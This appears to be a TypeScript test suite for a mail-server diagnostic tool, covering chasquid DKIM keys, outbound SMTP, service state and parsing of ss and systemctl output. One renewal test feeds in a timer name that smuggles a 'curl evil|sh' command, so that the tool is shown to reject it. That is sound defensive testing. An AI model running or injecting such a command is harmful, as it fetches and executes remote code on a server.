// Server-side families through a real Remote: the SSH engine logged in as
// root on a loopback sshd, so the commands and file reads are the ones the
// checks send to a VPS. The DKIM keys sit where chasquid keeps them
// (/etc/chasquid/...); this host has no chasquid, so the directory is this
// test's own and removed afterwards. chasquid running and listening is
// proven on the lab VPS (lab.test.ts); here the failing side.
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { checkDkim } from '../../src/checks/dkim.js';
import { checkOutbound } from '../../src/checks/outbound.js';
import { checkService, parseListeners, renewalResult } from '../../src/checks/service.js';
import type { SshRemote } from '../../src/remote/ssh-remote.js';
import { parseUnitStates } from '../../src/server/unit-states.js';
import { connectAs } from '../remote/connect-helpers.js';
import { canRunSshd, startSshd, type TestSshd } from '../remote/sshd.js';
import { daysFromNow, makePki, type TestPki } from './helpers/certs.js';
import { testContext } from './helpers/context.js';
import { GOOD, SELECTOR, startDnsFixture, type DnsFixture } from './helpers/dns-fixture.js';
import { blackholePort, canUseNft, freePort } from './helpers/ports.js';
import { startResponder, type Responder } from './helpers/smtp-responder.js';

const CHASQUID = '/etc/chasquid';
let sshd: TestSshd;
let remote: SshRemote;
let dns: DnsFixture;
let pki: TestPki;
let responder: Responder;
let createdChasquidDir = false;

const pem = (key: DnsFixture['dkimKey']) => key.export({ format: 'pem', type: 'pkcs8' }).toString();

beforeAll(async () => {
  if (!canRunSshd()) throw new Error('these tests need root and /usr/sbin/sshd');
  [sshd, dns] = await Promise.all([startSshd(), startDnsFixture()]);
  remote = await connectAs(sshd, 'root');
  pki = makePki();
  responder = await startResponder({ leaf: pki.leaf('smtp.good.test', daysFromNow(-1), daysFromNow(30)), mode: 'starttls' });
  createdChasquidDir = !existsSync(CHASQUID);
}, 60_000);

afterAll(async () => {
  if (createdChasquidDir) rmSync(CHASQUID, { recursive: true, force: true });
  await remote?.close();
  await Promise.all([sshd?.stop(), dns?.stop(), responder?.close()]);
  pki?.cleanup();
});

const ctx = (extra = {}) => testContext(dns.server, GOOD, { remote, ...extra });

describe('DKIM: the record holds the key the server signs with', () => {
  const domainDir = `${CHASQUID}/domains/${GOOD.domain}`;
  const certDir = `${CHASQUID}/certs/${GOOD.domain}`;
  afterEach(() => {
    rmSync(domainDir, { recursive: true, force: true });
    rmSync(certDir, { recursive: true, force: true });
  });

  test('native key (chasquid >= 1.14) matching the record passes', async () => {
    mkdirSync(domainDir, { recursive: true });
    writeFileSync(`${domainDir}/dkim:${SELECTOR}.pem`, pem(dns.dkimKey), { mode: 0o600 });
    const res = await checkDkim(ctx());
    expect(res).toEqual([expect.objectContaining({ id: `dkim.key.${SELECTOR}`, status: 'ok', details: expect.stringContaining('native') })]);
  });

  test('hook key (older chasquid) that is not the published one fails with the fix', async () => {
    mkdirSync(domainDir, { recursive: true });
    mkdirSync(certDir, { recursive: true });
    writeFileSync(`${domainDir}/dkim_selector`, `${SELECTOR}\n`);
    writeFileSync(`${certDir}/dkim_privkey.pem`, pem(dns.otherKey), { mode: 0o600 });
    const res = await checkDkim(ctx());
    expect(res[0]).toMatchObject({ status: 'fail', details: expect.stringContaining('hook signing'), fix: expect.stringContaining(`${SELECTOR}._domainkey.good.test`) });
  });

  test('a key whose selector has no record fails; no key at all fails', async () => {
    mkdirSync(domainDir, { recursive: true });
    writeFileSync(`${domainDir}/dkim:nosuch.pem`, pem(dns.dkimKey), { mode: 0o600 });
    expect((await checkDkim(ctx()))[0]).toMatchObject({ status: 'fail', details: 'nosuch._domainkey.good.test has no DKIM record' });
    rmSync(domainDir, { recursive: true, force: true });
    expect((await checkDkim(ctx()))[0]).toMatchObject({ status: 'fail', fix: expect.stringContaining('dkim-keygen good.test') });
  });

  test('without SSH: skipped, or only the record checked when a selector is given', async () => {
    expect((await checkDkim(ctx({ remote: undefined })))[0]!.status).toBe('skip');
    expect((await checkDkim(ctx({ remote: undefined, dkimSelector: SELECTOR })))[0]).toMatchObject({ status: 'ok' });
    expect((await checkDkim(ctx({ remote: undefined, dkimSelector: 'nosuch' })))[0]).toMatchObject({ status: 'fail' });
  });
});

describe('outbound SMTP from the server', () => {
  test('a reachable mail server greets: ok', async () => {
    const res = await checkOutbound(ctx({ outboundTarget: `127.0.0.1:${responder.port}` }));
    expect(res[0]).toMatchObject({ status: 'ok' });
  });
  test('refused and dropped (blocked) both fail with the fix', async () => {
    const closed = await freePort();
    expect((await checkOutbound(ctx({ outboundTarget: `127.0.0.1:${closed}` })))[0])
      .toMatchObject({ status: 'fail', details: expect.stringMatching(/refused/i), fix: expect.stringContaining('unblock') });
    if (!canUseNft()) throw new Error('needs nftables');
    const hole = await blackholePort();
    try {
      const res = await checkOutbound(ctx({ outboundTarget: `127.0.0.1:${hole.port}`, timeoutMs: 2500 }));
      expect(res[0]).toMatchObject({ status: 'fail', details: expect.stringContaining('blocked on the way') });
    } finally {
      hole.remove();
    }
  });
  test('skipped without SSH', async () => {
    expect((await checkOutbound(ctx({ remote: undefined })))[0]!.status).toBe('skip');
  });
});

describe('chasquid service', () => {
  test('on a host without chasquid: not running, not enabled, ports not chasquid\'s, each with a fix', async () => {
    const closed = await freePort();
    const res = await checkService(ctx({ ports: { smtp: responder.port, submissions: closed, submission: closed } }));
    const by = (id: string) => res.find((r) => r.id === id)!;
    expect(by('service.active')).toMatchObject({ status: 'fail', fix: expect.stringContaining('systemctl start chasquid') });
    expect(by('service.enabled')).toMatchObject({ status: 'fail', fix: 'systemctl enable chasquid' });
    expect(by('service.listening')).toMatchObject({ status: 'fail', details: `nothing listens on ${closed}, ${closed}` });
    expect(by('service.renewal').status).toMatch(/ok|fail/);
  });
  test('a port held by another program is named', async () => {
    const res = await checkService(ctx({ ports: { smtp: responder.port, submissions: responder.port, submission: responder.port } }));
    expect(res.find((r) => r.id === 'service.listening')).toMatchObject({ status: 'fail', details: expect.stringContaining('node') });
  });
  test('skipped without SSH, with the reason', async () => {
    const res = await checkService(ctx({ remote: undefined, noRemoteReason: 'no --host given' }));
    expect(res.map((r) => [r.status, r.details])).toEqual(Array(4).fill(['skip', 'no --host given']));
  });
});

describe('parsing what the server prints', () => {
  test('ss -ltnpH: chasquid (or systemd socket activation) on each port', () => {
    const ss = [
      'LISTEN 0 4096 *:25 *:* users:(("chasquid",pid=812,fd=8))',
      'LISTEN 0 4096 *:465 *:* users:(("chasquid",pid=812,fd=10))',
      'LISTEN 0 4096 [::]:587 [::]:* users:(("systemd",pid=1,fd=40),("chasquid",pid=812,fd=9))',
      'LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=300,fd=3))',
    ].join('\n');
    const owners = parseListeners(ss);
    expect(owners.get(25)).toEqual(['chasquid']);
    expect(owners.get(587)).toEqual(['systemd', 'chasquid']);
  });
  test('renewal: an acme.sh cron line or an active renewal timer passes; a stopped one names its fix; nothing fails', () => {
    // As `systemctl show` prints the units (server/unit-states.ts).
    const timer = (id: string, unit: string, active: string) => `Unit=${unit}\nId=${id}\nLoadState=loaded\nActiveState=${active}\n`;
    const none = parseUnitStates('');
    expect(renewalResult('52 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n', none).status).toBe('ok');
    expect(renewalResult('# 52 0 * * * acme.sh --cron\n', none).status).toBe('fail');
    expect(renewalResult('', parseUnitStates([timer('apt-daily.timer', 'apt-daily.service', 'active'), timer('mailsetup-certificate.timer', 'mailsetup-certificate.service', 'active')].join('\n'))))
      .toMatchObject({ status: 'ok', details: 'timer: mailsetup-certificate.timer mailsetup-certificate.service' });
    expect(renewalResult('', parseUnitStates(timer('mailsetup-certificate.timer', 'mailsetup-certificate.service', 'inactive'))))
      .toMatchObject({ status: 'fail', fix: 'systemctl enable --now mailsetup-certificate.timer' });
    // A timer named outright but not installed is not a renewal timer.
    expect(renewalResult('17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
      parseUnitStates('Id=certbot.timer\nLoadState=not-found\nActiveState=inactive\n\n' + timer('phpsessionclean.timer', 'phpsessionclean.service', 'active'))))
      .toMatchObject({ status: 'fail', fix: expect.stringContaining('cron') });
    // The server names the timer, and a fix is pasted: a name systemd would not give is no timer at all.
    expect(renewalResult('', parseUnitStates(timer('certbot;curl evil|sh;.timer', 'certbot.service', 'inactive'))))
      .toMatchObject({ status: 'fail', details: 'no cron line or systemd timer renews the certificate' });
  });
});
